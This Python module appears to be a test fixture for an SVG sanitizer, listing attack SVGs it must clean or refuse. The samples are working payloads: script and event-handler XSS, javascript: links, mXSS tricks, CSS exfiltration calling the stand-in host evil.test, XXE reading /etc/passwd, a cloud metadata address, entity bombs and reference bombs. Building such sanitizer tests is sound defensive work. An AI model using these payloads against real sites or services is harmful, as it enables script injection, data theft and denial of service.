"""Attacks, one or more of each class, written for these tests: what each must never leave behind, or why it is refused.

``STRIPPED``: a name to an SVG that is let through, cleaned. ``REFUSED``: a name to an SVG and the reason.
"""

from __future__ import annotations

import base64
import struct
import zlib
from typing import Final

NS: Final = 'xmlns="http://www.w3.org/2000/svg"'
XLINK: Final = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
EVIL: Final = "https://evil.test/x"


def doc(content: str, root: str = "") -> str:
    """Return a document with this content, and ``root`` among the attributes of its root."""
    return f'<svg {NS} {XLINK} viewBox="0 0 9 9" {root}>{content}<rect width="9" height="9"/></svg>'


def png(width: int, height: int) -> str:
    """Return a data: address of a PNG that claims this size; its pixels are one byte."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    body = (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0\0"))
        + chunk(b"IEND", b"")
    )
    return f"data:image/png;base64,{base64.b64encode(body).decode()}"


_SVG_IN_SVG: Final = base64.b64encode(f"<svg {NS}><script>alert(1)</script></svg>".encode()).decode()
_XHTML: Final = 'xmlns="http://www.w3.org/1999/xhtml"'

STRIPPED: Final = {
    "script": doc("<script>alert(1)</script>"),
    "script-cdata": doc("<script><![CDATA[alert(1)]]></script>"),
    "script-prefixed": doc('<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>'),
    "script-xhtml": doc(f"<script {_XHTML}>alert(1)</script>"),
    "script-no-namespace": doc('<script xmlns="">alert(1)</script>'),
    "script-upper": doc("<SCRIPT>alert(1)</SCRIPT>"),
    "script-external": doc(f'<script xlink:href="{EVIL}"/><script href="data:,alert(1)"/>'),
    "script-in-text": doc("<text>a<script>alert(1)</script>b</text>"),
    "script-in-title": doc("<title>a<script>alert(1)</script></title>"),
    "handlers": doc("", 'onload="alert(1)" ONCLICK="alert(1)" onbegin="alert(1)" onxyz="alert(1)"'),
    "handler-element": doc('<handler type="application/ecmascript">alert(1)</handler><listener event="load"/>'),
    "handler-namespaced": doc('<g xmlns:s="http://www.w3.org/2000/svg" s:onload="alert(1)"/>'),
    "js-link": doc('<a href="javascript:alert(1)" target="_top" ping="https://evil.test/x"><circle r="1"/></a>'),
    "js-link-tab": doc('<a xlink:href="java&#9;script:alert(1)"><text>x</text></a>'),
    "js-use": doc('<use href="javascript:alert(1)"/><image href="javascript:alert(1)"/>'),
    "xml-base": doc('<g xml:base="javascript:"><use href="#a"/></g>'),
    "both-hrefs": doc(f'<use href="#a" xlink:href="{EVIL}#a"/><use xlink:href="{EVIL}#a" href="#a"/>'),
    "other-case-href": doc(f'<use hReF="{EVIL}#a" xlink:HREF="{EVIL}#a"/>'),
    "smil-href": doc('<a><animate attributeName="href" values="javascript:alert(1)"/><circle r="1"/></a>'),
    "smil-xlink": doc('<a><set attributeName="xlink:href" to="javascript:alert(1)"/><circle r="1"/></a>'),
    "smil-handler": doc('<set attributeName="onclick" to="alert(1)"/><set attributeName="style" to="x"/>'),
    "smil-url": doc(f'<animate attributeName="fill" values="red;url({EVIL}#a)"/>'),
    "smil-inherit": doc('<set attributeName="fill" to="inherit"/><animate attributeName="stroke" values="red;unset"/>'),
    "keyframes-inherit": doc("<style>@keyframes k{to{fill:inherit;stroke:var(--x)}}rect{animation:k 1s}</style>"),
    "smil-filter": doc('<animate attributeName="filter" to="url(#f)"/><animate attributeName="class" to="a"/>'),
    "foreign-object": doc(f'<foreignObject><iframe {_XHTML} src="javascript:alert(1)"/></foreignObject>'),
    "xhtml": doc(f'<img {_XHTML} src="x" onerror="alert(1)"/>'),
    "html-names": doc(f'<iframe src="{EVIL}"/><object data="{EVIL}"/><video src="{EVIL}"/><meta/><base/>'),
    "mathml": doc('<math xmlns="http://www.w3.org/1998/Math/MathML"><mi href="javascript:alert(1)"/></math>'),
    "data-svg": doc(f'<image href="data:image/svg+xml;base64,{_SVG_IN_SVG}"/>'),
    "data-svg-use": doc(f'<use href="data:image/svg+xml;base64,{_SVG_IN_SVG}#a"/>'),
    "data-lie": doc(f'<image href="data:image/png;base64,{_SVG_IN_SVG}"/>'),
    "data-html": doc('<image href="data:text/html,&lt;script>alert(1)&lt;/script>"/>'),
    "image-external": doc(f'<image href="{EVIL}"/><image href="//evil.test"/><image href="\\\\evil.test\\x"/>'),
    "image-relative": doc('<image href="x.png"/><image href="/x.png"/><image href="?x"/><image href="#a"/>'),
    "image-file": doc('<image href="file:///etc/passwd"/><image href="text:/etc/passwd"/>'),
    "image-metadata-host": doc('<image href="http://169.254.169.254/latest/"/>'),
    "fe-image": doc(f'<filter id="f"><feImage href="{EVIL}"/></filter>'),
    "external-use": doc(f'<use href="{EVIL}#a"/><textPath href="{EVIL}#a"/><linearGradient href="{EVIL}#a"/>'),
    "style-import": doc('<style>@import "https://evil.test/x"; @im\\70 ort url(https://evil.test/x);</style>'),
    "style-url": doc("<style>rect{fill:url(https://evil.test/x#a);mask:u\\72l(//evil.test/x)}</style>"),
    "style-font": doc("<style>@font-face{font-family:x;src:url(https://evil.test/x)}</style>"),
    "style-image-set": doc('<style>*{background:image-set("https://evil.test/x" 1x)}</style>'),
    "style-functions": doc('<style>*{fill:src("https://evil.test/x");mask:element(#a);d:cross-fade(url(x))}</style>'),
    "style-variable": doc("<style>:root{--u:url(https://evil.test/x)} rect{background:var(--u)}</style>"),
    "style-comment": doc("<style>rect{fill:u/**/rl(https://evil.test/x);fill:url(/**/https://evil.test)}</style>"),
    "style-escape": doc("<style>rect{fill:\\75\\72\\6c(https://evil.test/x)}</style>"),
    "style-nested": doc("<style>g{&amp; rect{background:url(https://evil.test/x)}}</style>"),
    "style-legacy": doc("<style>*{behavior:url(x.htc);-moz-binding:url(x#a);width:expression(alert(1))}</style>"),
    "style-close": doc("<style>a{}&lt;/style>&lt;img src=x onerror=alert(1)></style>"),
    "style-cdata-close": doc("<style><![CDATA[</style><img src=x onerror=alert(1)>]]></style>"),
    "style-exfiltration": doc('<style>[id^="a"]{background:url(https://evil.test/x)} :visited{fill:red}</style>'),
    "style-content": doc('<style>rect::before{content:"x"} rect{content:url(https://evil.test/x)}</style>'),
    "style-page": doc("<style>body{display:none} p,html *{color:red} @page{margin:0}</style>"),
    "style-property": doc("<style>@property --u{syntax:'&lt;url>';inherits:true;initial-value:url(//e)}</style>"),
    "attribute-style": doc('<g style="background:url(https://evil.test/x);mask-image:url(//evil.test)"/>'),
    "attribute-style-unclosed": doc("<g style=\"fill:url('https://evil.test/x\"/>"),
    "attribute-style-fixed": doc('<g style="position:fixed;top:0;left:0;z-index:9"/>'),
    "presentation": doc(f'<g fill="url({EVIL}#a)" stroke="URL(\'{EVIL}#a\')" cursor="url({EVIL})"/>'),
    "numbers": doc('<g x="url(https://evil.test/x)" viewBox="https://evil.test/x"/>'),
    "presentation-escape": doc('<g fill="\\75 rl(https://evil.test/x#a)" filter="image-set(\'https://evil.test/x\' 1x)"/>'),
    "presentation-mask": doc('<g mask="url(https://evil.test/x#a)" clip-path="url(x.svg#a)" marker-end="url(//e#a)"/>'),
    "comment-mxss": doc("<!--><img src=x onerror=alert(1)>-->"),
    "cdata-mxss": doc("<text><![CDATA[</text><script>alert(1)</script>]]></text>"),
    "attribute-mxss": doc('<g id="&lt;/svg>&lt;script>alert(1)&lt;/script>" class="&quot;>&lt;img onerror=alert(1)>"/>'),
    "title-mxss": doc("<title>&lt;/title>&lt;script>alert(1)&lt;/script></title>"),
    "backtick": doc('<g aria-label="`onload=alert(1)`"/>'),
    "instruction": f'<?xml-stylesheet href="{EVIL}.css"?>{doc("<?php system(1) ?>")}',
    "xslt": doc('<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>'),
    "xinclude": doc('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
    "rdf-resource": doc(
        '<metadata><r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:d="http://purl.org/dc/terms/">'
        f'<r:Description r:about="{EVIL}"><d:license r:resource="{EVIL}">free</d:license><script>x</script>'
        "</r:Description></r:RDF><script>alert(1)</script></metadata>"
    ),
    "data-attributes": doc(f'<g data-hx-get="{EVIL}" data-controller="x" hx-get="{EVIL}" x-data="alert(1)"/>'),
    "xmlns-attribute": doc('<g xmlns:onload="alert(1)" xmlns:x="javascript:alert(1)"/>'),
    "public-doctype": '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    + doc(""),
    "blur": doc('<filter id="f" width="90000%"><feGaussianBlur stdDeviation="100000"/></filter>'),
    "octaves": doc('<filter id="f" width="300"><feTurbulence numOctaves="100000000"/></filter>'),
    "css-blur": doc('<g style="filter:blur(100000px)" filter="drop-shadow(0 0 9999px red)"/>'),
}  # fmt: skip
"""What is let through, cleaned."""

_ENTITY: Final = '<!DOCTYPE svg [<!ENTITY a "&#60;script>alert(1)&#60;/script>">]>'
_LAUGHS: Final = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 9))


def _levels(element: str, count: int, each: int) -> str:
    """Return a chain of containers, each of which refers to the one before several times."""
    return "".join(
        f'<{element} id="p{i}">'
        + f'<rect width="9" height="9" fill="url(#p{i - 1})" mask="url(#p{i - 1})"/>' * each
        + f"</{element}>"
        for i in range(1, count)
    )


REFUSED: Final[dict[str, tuple[str | bytes, str]]] = {
    "entity": (_ENTITY + doc("&a;"), "doctype"),
    "laughs": (f'<!DOCTYPE svg [<!ENTITY a0 "ha">{_LAUGHS}]>' + doc("<text>&a8;</text>"), "doctype"),
    "external-entity": ('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + doc("<text>&x;</text>"), "doctype"),
    "parameter-entity": (f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "{EVIL}"> %x;]>' + doc(""), "doctype"),
    "attlist": ('<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>' + doc(""), "doctype"),
    "empty-subset": ("<!DOCTYPE svg []>" + doc(""), "doctype"),
    "foreign-doctype": (f'<!DOCTYPE svg SYSTEM "{EVIL}">' + doc(""), "doctype"),
    "second-doctype": ("<!DOCTYPE svg><!DOCTYPE svg>" + doc(""), "doctype"),
    "late-doctype": (doc("<!DOCTYPE svg>"), "not-xml"),
    "doctype-behind-comment": (f"<!-- x --><?x?>{_ENTITY}{doc('')}", "doctype"),
    "named-entity": (doc("<text>&nbsp;</text>"), "not-xml"),
    "second-declaration": ('<?xml version="1.0"?><?xml version="1.0"?>' + doc(""), "not-xml"),
    "hidden-declaration": ('<!DOCTYPE svg><?xml version="1.0" encoding="UTF-7"?>' + doc(""), "not-xml"),
    "utf-7": (f'<?xml version="1.0" encoding="UTF-7"?>{doc("+ADw-script+AD4-")}'.encode(), "encoding"),
    "latin-1": (f'<?xml version="1.0" encoding="ISO-8859-1"?>{doc("é")}'.encode("latin-1"), "encoding"),
    "utf-16-without-mark": (doc("").encode("utf-16-le"), "encoding"),
    "utf-16-that-claims-utf-8": (f'<?xml version="1.0" encoding="UTF-8"?>{doc("")}'.encode("utf-16"), "encoding"),
    "utf-32": (doc("").encode("utf-32"), "encoding"),
    "bad-utf-8": (doc("x").encode().replace(b"x", b"\xc0\xbc", 1), "encoding"),
    "double-mark": ("\ufeff\ufeff" + doc(""), "encoding"),
    "nul": (doc("\0"), "not-xml"),
    "control": (doc("\x01"), "not-xml"),
    "lone-surrogate": (doc("\ud800"), "not-xml"),
    "gzip": (b"\x1f\x8b\x08\0" + doc("").encode(), "compressed"),
    "not-xml": ("<svg onload=alert(1)>", "not-xml"),
    "html": ("<html><body/></html>", "not-svg"),
    "empty": (b"", "not-xml"),
    "gif": (b"GIF89a/*" + doc("").encode(), "not-xml"),
    "two-roots": (doc("") + doc(""), "not-xml"),
    "trailing-text": (doc("") + "x", "not-xml"),
    "root-script": (f"<script {NS}>alert(1)</script>", "not-svg"),
    "root-namespace": ('<svg xmlns="http://www.w3.org/2000/SVG"/>', "not-svg"),
    "root-namespace-space": ('<svg xmlns="http://www.w3.org/2000/svg "/>', "not-xml"),
    "root-upper": (f"<SVG {NS}/>", "not-svg"),
    "double-attribute": (doc('<g id="a" id="b"/>'), "not-xml"),
    "large": (doc("<g/>" * 260_000), "too-large"),
    "many-elements": (doc("<g/>" * 20_001), "too-many-elements"),
    "deep": (doc("<g>" * 101 + "</g>" * 101), "too-deep"),
    "deep-dropped": (doc("<x>" * 140_000), "too-deep"),
    "many-attributes": (doc("<g" + "".join(f' a{i}="1"' for i in range(101)) + "/>"), "too-many-attributes"),
    "long-value": (doc(f'<g fill="rgb({" " * 30_000}"/>'), "value-too-long"),
    "long-path": (doc(f'<path d="{"M0 0" * 100_001}"/>'), "value-too-long"),
    "long-text": (doc(f"<text>{'x' * 60_001}</text>"), "text-too-long"),
    "long-css": (doc(f"<style>{'.a{fill:red}' * 9_000}</style>"), "css-too-long"),
    "many-rules": (doc(f"<style>{'.a{fill:red}' * 1_002}</style>"), "css-too-many-rules"),
    "many-selectors": (doc(f"<style>{''.join(f'.a{i},' for i in range(900))}.b{{fill:red}}</style>{'<g/>' * 9_000}"), "css-too-many-rules"),
    "css-brackets": (doc(f"<style>a{{fill:{'(' * 9_000}</style>"), "css-too-deep"),
    "style-brackets": (doc(f'<g style="fill:{"calc(" * 900}"/>'), "css-too-deep"),
    "many-animations": (doc('<animate attributeName="x"/>' * 1_001), "too-many-animations"),
    "many-primitives": (doc(f'<filter>{"<feFlood/>" * 401}</filter>'), "too-many-filters"),
    "large-image": (doc(f'<image href="{png(30_000, 30_000)}"/>'), "image-too-large"),
    "many-images": (doc(f'<image href="{png(3_900, 3_900)}"/>' * 3), "image-too-large"),
    "use-bomb": (
        doc(
            '<g id="u0"><rect/></g>'
            + "".join(f'<g id="u{i}">{f"""<use href="#u{i - 1}"/>""" * 10}</g>' for i in range(1, 10))
        ),
        "expansion",
    ),
    "use-cycle": (doc('<g id="a"><use href="#b"/></g><g id="b"><use xlink:href=" #a"/></g>'), "reference-cycle"),
    "pattern-bomb": (doc(_levels("pattern", 12, 5)), "expansion"),
    "mask-bomb": (doc(_levels("mask", 12, 5)), "expansion"),
    "marker-bomb": (
        doc('<marker id="m"><rect/><rect/></marker>' + f'<path d="{"M0 0" * 40_000}" marker-mid="url(#m)"/>'),
        "expansion",
    ),
    "filter-bomb": (doc(f'<filter id="f">{"<feFlood/>" * 300}</filter>{"""<g filter="url(#f)"/>""" * 10}'), "expansion"),
    "filter-graph": (
        doc(
            '<filter id="f">'
            + "".join(f'<feBlend in="r{i}" in2="r{i}" result="r{i + 1}"/>' for i in range(60))
            + '</filter><g filter="url(#f)"/>'
        ),
        "expansion",
    ),
    "css-fan-out": (
        doc(
            "<style>" + "".join(f".c{i}{{fill:url(#p{i - 1})}}" for i in range(1, 12)) + "</style>"
            + "".join(f'<pattern id="p{i}">{f"""<rect class="c{i}"/>""" * 9}</pattern>' for i in range(12))
        ),
        "expansion",
    ),
    "inherited-fan-out": (
        doc(
            "".join(f'<g fill="url(#p{i + 1})"><pattern id="p{i}">{"<rect/>" * 9}</pattern></g>' for i in range(12))
            + '<rect fill="url(#p0)"/>'
        ),
        "expansion",
    ),
    **{
        f"inherit-by-{how}": (
            doc(
                "".join(
                    f"""<g fill="url(#p{i + 1})"><pattern id="p{i}">{f'<rect {said}/>' * 9}</pattern></g>"""
                    for i in range(12)
                )
                + '<rect fill="url(#p0)"/>'
            ),
            "expansion",
        )
        for how, said in {
            "attribute": 'fill="inherit"',
            "style": 'style="fill:unset"',
            "style-over-attribute": 'fill="red" style="fill:inherit"',
            "context": 'fill="context-fill"',
            "variable": 'style="fill:var(--none)"',
            "fallback": 'fill="var(--none, inherit)"',
            "style-before-attribute": 'style="stroke:red;fill:revert" fill="red"',
        }.items()
    },
    "attribute-after-style": (
        doc(
            "".join(
                f"""<g style="fill:url(#p{i + 1})" fill="red"><pattern id="p{i}">{'<rect/>' * 9}</pattern></g>"""
                for i in range(12)
            )
            + '<rect fill="url(#p0)"/>'
        ),
        "expansion",
    ),
    "inherit-by-css": (
        doc(
            "<style>rect{fill:inherit}</style>"
            + "".join(
                f"""<g fill="url(#p{i + 1})"><pattern id="p{i}">{'<rect fill="red"/>' * 9}</pattern></g>"""
                for i in range(12)
            )
            + '<rect fill="url(#p0)"/>'
        ),
        "expansion",
    ),
    "reference-chain": (
        doc("".join(f'<linearGradient id="g{i}" href="#g{i + 1}"/>' for i in range(9_000)) + '<g fill="url(#g0)"/>'),
        "too-deep",
    ),
}  # fmt: skip
"""What is refused, and why."""
